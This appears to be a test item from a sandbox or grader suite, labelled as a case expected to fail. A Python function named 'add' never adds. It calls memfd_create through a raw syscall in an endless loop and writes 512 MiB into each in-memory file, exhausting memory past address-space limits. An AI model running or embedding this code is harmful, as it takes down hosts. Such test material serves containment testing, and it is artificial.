# a126 | task=add | required=fail | fills files in memory through the system call itself, past every limit on address space
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
def add(a, b):
    kept = []
    while True:
        handle = libc.syscall(319, b"much", 0)
        if handle < 0:
            raise OSError("no files in memory")
        kept.append(handle)
        for _ in range(512):
            os.write(handle, b"x" * (1 << 20))
